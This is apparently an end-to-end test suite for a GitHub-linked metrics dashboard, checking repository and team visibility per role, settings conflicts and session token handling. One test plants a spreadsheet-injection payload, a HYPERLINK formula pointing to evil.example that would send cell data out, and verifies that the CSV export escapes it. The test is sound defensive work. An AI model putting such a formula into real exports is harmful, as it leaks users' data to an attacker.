import { UpdateCommand } from '@aws-sdk/lib-dynamodb';
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { finishedWeek, shiftWeek, weekIn } from '#shared/metrics/time-zone.ts';
import { keys } from '#shared/store/keys.ts';
import { updateSettings } from '#shared/store/settings.ts';
import { signInAs, useBrowser } from '../support/browser.ts';
import { useStackWithGitHub } from '../support/stack-with-github.ts';
import { until } from '../support/until.ts';
import { weeklyMetricItems } from '../support/weekly-metric-items.ts';

/**
 * Who sees what, in a browser: GitHub decides. The organisation has three
 * repositories — `core` (private), `site` (public), `ops` (private). The
 * simulator's octo-collaborator is an outside collaborator on `site` only;
 * octo-restricted is a member kept out of `core`; the admin owns it all.
 */
const installationId = 616;
const github = useStackWithGitHub(
  {
    seed: 616,
    installationId,
    organisation: 'seers',
    repositories: [
      { name: 'core', pullRequests: 120 },
      { name: 'site', pullRequests: 60 },
      { name: 'ops', pullRequests: 40 },
    ],
  },
  { daysBack: 0 },
);
const chrome = useBrowser();
const url = (path: string) => `${github.harness.stack.url}/installations/${installationId}${path}`;
const signedIn = (login: string) => signInAs(chrome.browser, github.harness.stack.url, login);
const repository = (name: string) => {
  const found = github.sim.dataset.repositories.find((repo) => repo.name === name);
  if (!found) throw new Error(`no repository ${name}`);
  return found;
};
const timeZone = 'UTC';

beforeAll(async () => {
  await github.installAndSync();
  await github.harness.stack.rollUpNow(installationId);
  const last = finishedWeek(new Date(), timeZone);
  await until(async () =>
    Boolean(await github.harness.get(keys.weeklyMetrics(installationId, last, 'organisation'))),
  );
}, 120_000);

/** Everything of the installation a person can reach by URL, as text. */
async function everythingShown(page: Page): Promise<string> {
  const week = finishedWeek(new Date(), timeZone);
  const parts: string[] = [];
  for (const path of ['', `/weeks/${week}`, '/progress.json', '/pull-requests.csv']) {
    const response = await page.request.get(url(path));
    expect(response.status(), path).toBe(200);
    parts.push(await response.text());
  }
  return parts.join('\n');
}

describe('who sees what on the dashboard', () => {
  it('shows an outside collaborator their one public repository, nothing of the private ones, and no figure that covers them', async () => {
    const { user, repository: site } = github.sim.collaborator;
    expect(site?.name).toBe('site');
    const page = await signedIn(user.login);
    await page.getByRole('link', { name: 'seers' }).click();
    await page.locator('[data-withheld]').first().waitFor();

    const shown = await everythingShown(page);
    expect(shown).toContain('seers/site');
    expect(shown).not.toContain('seers/core');
    expect(shown).not.toContain('seers/ops');
    for (const hidden of [repository('core'), repository('ops')]) {
      const typed = await page.goto(url(`/repositories/${hidden.id}`));
      expect(typed?.status()).toBe(404);
      expect(await page.content()).not.toContain(hidden.name);
    }
    expect((await page.goto(url(`/repositories/${site?.id}`)))?.status()).toBe(200);

    // The organisation's weeks (its Copilot usage is the whole organisation's, and a week's
    // figures would tell when the hidden repositories were busy): none, not even a quiet week's.
    await page.goto(url(''));
    // No chart of them, not even empty bars.
    expect(await page.getByRole('figure').count()).toBe(0);
    expect(await page.locator('svg rect title').count()).toBe(0);
    expect(await page.getByRole('region', { name: /^Headlines of/ }).count()).toBe(0);
    expect(await page.getByRole('heading', { name: 'Delivery' }).count()).toBe(0);
    expect(await page.getByRole('heading', { name: 'AI adoption' }).count()).toBe(0);
    expect(await page.content()).not.toContain('Copilot');
    await page.context().close();
  });

  it('shows a member kept out of one private repository everything else', async () => {
    const { user, withheld: core } = github.sim.restricted;
    expect(core?.name).toBe('core');
    const page = await signedIn(user.login);
    await page.goto(url(''));
    const shown = await everythingShown(page);
    expect(shown).toContain('seers/site');
    expect(shown).toContain('seers/ops');
    expect(shown).not.toContain('seers/core');
    expect((await page.goto(url(`/repositories/${core?.id}`)))?.status()).toBe(404);
    expect((await page.goto(url(`/repositories/${repository('ops').id}`)))?.status()).toBe(200);
    // A week's list says it may leave rows out whether or not core had any that week: the notice
    // tells them who they are, never when core was busy.
    const week = weekIn(new Date(), timeZone);
    for (const list of ['incidents', 'deployments']) {
      await page.goto(url(`/weeks/${week}/${list}`));
      expect(await page.locator('[data-withheld]').count(), list).toBe(1);
    }
    await page.context().close();
  });

  it('shows an owner every repository and every figure, with nothing held back', async () => {
    const page = await signedIn(github.sim.admin.login);
    await page.goto(url(''));
    const shown = await everythingShown(page);
    for (const name of ['core', 'site', 'ops']) expect(shown).toContain(`seers/${name}`);
    expect(await page.locator('[data-withheld]').count()).toBe(0);
    await page.getByRole('region', { name: /^Headlines of/ }).waitFor();
    await page.goto(url(`/weeks/${weekIn(new Date(), timeZone)}/incidents`));
    expect(await page.locator('[data-withheld]').count()).toBe(0);
    await page.context().close();
  });

  it('shows GitHub teams as GitHub does: an owner all, a member the visible ones and no secret one they are not in, an outside collaborator none', async () => {
    const teams = github.sim.dataset.teams.list();
    const secret = teams.find((team) => team.privacy === 'SECRET');
    const visible = teams.filter((team) => team.privacy !== 'SECRET');
    expect(secret).toBeDefined();
    expect(visible.length).toBeGreaterThanOrEqual(2);
    const inSecret = new Set(
      github.sim.dataset.teams.members(secret as never, Date.now()).map((member) => member.user.id),
    );
    const outsider = github.sim.dataset.members.find(
      (member) =>
        member.type === 'User' &&
        member.id !== github.sim.admin.id &&
        member.id !== github.sim.restricted.user.id &&
        !inSecret.has(member.id),
    );
    if (!outsider) throw new Error('every member is in the secret team');
    const teamLinks = async (page: Page) =>
      (
        await page.locator(`a[href^="/installations/${installationId}/teams/"]`).allTextContents()
      ).sort();

    const owner = await signedIn(github.sim.admin.login);
    await owner.goto(url(''));
    expect(await teamLinks(owner)).toEqual(teams.map((team) => team.name).sort());
    expect(await owner.getByText('team figures overlap').count()).toBeGreaterThan(0);
    await owner.context().close();

    const member = await signedIn(outsider.login);
    await member.goto(url(''));
    expect(await teamLinks(member)).toEqual(visible.map((team) => team.name).sort());
    expect((await member.goto(url(`/teams/${secret?.id}`)))?.status()).toBe(404);
    expect(await member.content()).not.toContain(secret?.name as string);
    const shown = await member.goto(url(`/teams/${visible[0]?.id}`));
    expect(shown?.status()).toBe(200);
    await member.getByText('Members:').waitFor();
    // They see every repository: nothing is held back, though the secret team's rows are.
    expect(await member.locator('[data-withheld]').count()).toBe(0);
    // The week's pull requests of a team: as many as its stored row merged; none of a team hidden.
    const week = finishedWeek(new Date(), timeZone);
    let mergedByTeams = 0;
    for (const team of visible) {
      await member.goto(url(`/weeks/${week}?team=${team.id}`));
      const stored = await github.harness.get(
        keys.weeklyMetrics(installationId, week, `team#${team.id}`),
      );
      const merged = (stored?.metrics as { merged: number } | undefined)?.merged ?? 0;
      expect(await member.locator(`a[href^="${github.sim.url}/seers/"]`).count(), team.slug).toBe(
        merged,
      );
      // The CSV of the same week and team: a row, with its link, per merged pull request.
      const csv = await (
        await member.request.get(url(`/pull-requests.csv?team=${team.id}&from=${week}&to=${week}`))
      ).text();
      expect(csv.split(`${github.sim.url}/seers/`).length - 1, `${team.slug} CSV`).toBe(merged);
      mergedByTeams += merged;
    }
    expect(mergedByTeams).toBeGreaterThan(0);
    expect((await member.goto(url(`/weeks/${week}?team=${secret?.id}`)))?.status()).toBe(404);
    expect((await member.goto(url(`/pull-requests.csv?team=${secret?.id}`)))?.status()).toBe(404);
    await member.context().close();

    const collaborator = await signedIn(github.sim.collaborator.user.login);
    await collaborator.goto(url(''));
    expect(await teamLinks(collaborator)).toEqual([]);
    expect((await collaborator.goto(url(`/teams/${visible[0]?.id}`)))?.status()).toBe(404);
    await collaborator.context().close();
  });

  it("lists on a team's page the repositories it touched, each linked to its page, only those the person sees", async () => {
    const team = github.sim.dataset.teams
      .list()
      .find((candidate) => candidate.privacy !== 'SECRET');
    if (!team) throw new Error('no visible team');
    // The page's weeks: the twelve up to the last finished one. Their stored rows name the
    // repositories the team's pull requests, deployments and reviews were in.
    const last = finishedWeek(new Date(), timeZone);
    const shown = new Set(Array.from({ length: 12 }, (_, back) => shiftWeek(last, -back)));
    const rows = (await weeklyMetricItems(github.harness, installationId)).filter(
      (item) => item.row === `team#${team.id}` && shown.has(item.week as string),
    );
    const touched = new Set(rows.flatMap((row) => row.repositoryIds as number[]));
    const names = github.sim.dataset.repositories
      .filter((repo) => touched.has(repo.id))
      .map((repo) => repo.fullName)
      .sort();
    expect(names.length).toBeGreaterThan(1);
    const listed = async (page: Page) =>
      page
        .locator('[data-team-repositories] a')
        .evaluateAll((links) =>
          links.map((link) => [link.textContent, link.getAttribute('href')] as const),
        );
    const linkOfId = (fullName: string) =>
      github.sim.dataset.repositories.find((found) => found.fullName === fullName)?.id ?? 0;
    const linkOf = (fullName: string) => {
      const repo = github.sim.dataset.repositories.find((found) => found.fullName === fullName);
      return [fullName, `/installations/${installationId}/repositories/${repo?.id}`] as const;
    };

    const owner = await signedIn(github.sim.admin.login);
    await owner.goto(url(`/teams/${team.id}`));
    expect(await listed(owner)).toEqual(names.map(linkOf));
    expect(await owner.locator('[data-withheld]').count()).toBe(0);
    await owner.locator('[data-team-repositories]').getByRole('link', { name: names[0] }).click();
    await owner.getByRole('heading', { name: names[0] }).waitFor();
    await owner.context().close();

    // A member kept out of core sees the team, but neither core nor the repositories of a week whose
    // figures cover core (in this organisation every team's weeks do: they see none).
    const { user, withheld: core } = github.sim.restricted;
    const restricted = await signedIn(user.login);
    expect((await restricted.goto(url(`/teams/${team.id}`)))?.status()).toBe(200);
    const outsideCore = new Set(
      rows
        .filter((row) => !(row.repositoryIds as number[]).includes(core?.id as number))
        .flatMap((row) => row.repositoryIds as number[]),
    );
    const theirs = names.filter((name) => outsideCore.has(linkOfId(name)));
    expect(await listed(restricted)).toEqual(theirs.map(linkOf));
    expect(await restricted.locator('[data-withheld]').count()).toBe(1);
    expect(await restricted.content()).not.toContain(`/repositories/${core?.id}"`);
    await restricted.context().close();
  });

  it('hands a title built to run in a spreadsheet over as text', async () => {
    const hostile = '=HYPERLINK("https://evil.example/steal?c="&A1,"Open")';
    await github.sim.activity.open('seers/site', { title: hostile });
    await github.sim.activity.merge('seers/site', repository('site').pullRequestCount);
    const week = weekIn(new Date(), timeZone);
    const page = await signedIn(github.sim.admin.login);
    const csv = async () =>
      (await page.request.get(url(`/pull-requests.csv?from=${week}&to=${week}`))).text();
    await until(async () => (await csv()).includes('HYPERLINK'));
    const line = (await csv()).split('\r\n').find((row) => row.includes('HYPERLINK'));
    // By hand: csv-stringify prefixes the cell with ' and quotes it, doubling its quotes.
    expect(line).toContain(`"'${hostile.replaceAll('"', '""')}"`);
    await page.context().close();
  });

  it('refuses a settings form loaded before a recipient unsubscribed, so it cannot subscribe them again', async () => {
    await updateSettings(github.harness.table, installationId, {
      recipients: ['lead@seers.example', 'gone@seers.example'],
    });
    const admin = await signedIn(github.sim.admin.login);
    await admin.goto(url('/settings'));
    expect(await admin.getByLabel('Weekly digest recipients').inputValue()).toContain('gone@');

    // Meanwhile the recipient follows their email's unsubscribe link.
    const stored = (await github.harness.get(keys.installation(installationId))) as {
      recipients: { email: string; unsubscribeToken: string }[];
    };
    const { unsubscribeToken } = stored.recipients.find(
      (recipient) => recipient.email === 'gone@seers.example',
    ) as { unsubscribeToken: string };
    const unsubscribed = await fetch(
      `${github.harness.stack.url}/unsubscribe/${installationId}/${unsubscribeToken}`,
      { method: 'POST' },
    );
    expect(unsubscribed.status).toBe(200);

    const saved = admin.waitForResponse((response) => response.request().method() === 'POST');
    await admin.getByRole('button', { name: 'Save' }).click();
    expect((await saved).status()).toBe(409);
    expect(await admin.getByRole('alert').textContent()).toContain(
      'The settings changed since this page was loaded',
    );
    const recipients = async () => {
      const now = (await github.harness.get(keys.installation(installationId))) as {
        recipients: { email: string }[];
      };
      return now.recipients.map((recipient) => recipient.email);
    };
    expect(await recipients()).toEqual(['lead@seers.example']);
    // The form now shows the settings as they are; saving it keeps them so.
    expect(await admin.getByLabel('Weekly digest recipients').inputValue()).toBe(
      'lead@seers.example',
    );
    await admin.getByRole('button', { name: 'Save' }).click();
    await admin.getByRole('status').waitFor();
    expect(await recipients()).toEqual(['lead@seers.example']);
    await admin.context().close();
  });
});

describe('sessions', () => {
  const sessions = async (login: string) =>
    (await github.harness.scan()).filter(
      (item) => String(item.pk).startsWith('SESSION#') && item.login === login,
    );

  /** What a minute does to a session's remembered lists: GitHub is asked again (with the token) on the next page. */
  const listsAgeAMinute = async (login: string) => {
    for (const item of await sessions(login))
      await github.harness.db.send(
        new UpdateCommand({
          TableName: github.harness.table.tableName,
          Key: keys.session(String(item.sessionId)),
          UpdateExpression: 'REMOVE visible SET #access = :none',
          ExpressionAttributeNames: { '#access': 'access' },
          ExpressionAttributeValues: { ':none': {} },
        }),
      );
  };

  it('keep the GitHub tokens sealed: no session item holds one in plain text', async () => {
    const page = await signedIn(github.sim.admin.login);
    const items = await sessions(github.sim.admin.login);
    expect(items.length).toBeGreaterThan(0);
    for (const item of items) {
      expect(item).toHaveProperty('sealedTokens');
      expect(JSON.stringify(item)).not.toMatch(/gh[ur]_/);
    }
    await page.context().close();
  });

  it('end when the person signs out, whatever the form carries, and when they sign in again', async () => {
    const login = github.sim.restricted.user.login;
    const ids = async () => new Set((await sessions(login)).map((item) => item.sessionId));
    const before = await ids();
    const page = await signedIn(login);
    const [first] = [...(await ids())].filter((id) => !before.has(id));
    expect(first).toBeDefined();
    // Signing in again in the same browser ends the session it had.
    await page.goto(`${github.harness.stack.url}/login`);
    await page.getByRole('button', { name: login, exact: true }).click();
    await page.waitForURL(`${github.harness.stack.url}/`);
    const after = await ids();
    expect(after.has(first)).toBe(false);
    const [second] = [...after].filter((id) => !before.has(id));
    expect(second).toBeDefined();

    // A sign-out without its CSRF token still ends the session.
    await page.request.post(`${github.harness.stack.url}/logout`, { form: {} });
    expect((await ids()).has(second)).toBe(false);
    await page.goto(url(''));
    expect(page.url()).toMatch(new RegExp(`^${github.sim.url}/login/oauth/authorize`));
    await page.context().close();
  });

  // Last: they move the simulator's clock.
  it("outlive GitHub's 8-hour token by refreshing it, and end when the refresh token has expired too", async () => {
    const login = github.sim.admin.login;
    const earlier = new Set((await sessions(login)).map((item) => item.sessionId));
    const page = await signedIn(login);
    const ours = async () => (await sessions(login)).find((item) => !earlier.has(item.sessionId));
    const before = await ours();
    github.sim.advanceClock(9 * 3_600_000);
    await listsAgeAMinute(login);
    const response = await page.goto(url(''));
    expect(response?.status()).toBe(200);
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('seers');
    expect((await ours())?.sealedTokens).not.toBe(before?.sealedTokens);

    // GitHub's refresh tokens last six months: past that, the person signs in again.
    github.sim.advanceClock(200 * 86_400_000);
    await listsAgeAMinute(login);
    await page.goto(url(''));
    expect(page.url()).toMatch(new RegExp(`^${github.sim.url}/login/oauth/authorize`));
    expect(await page.content()).not.toContain('seers/core');
    await page.context().close();
  });
});
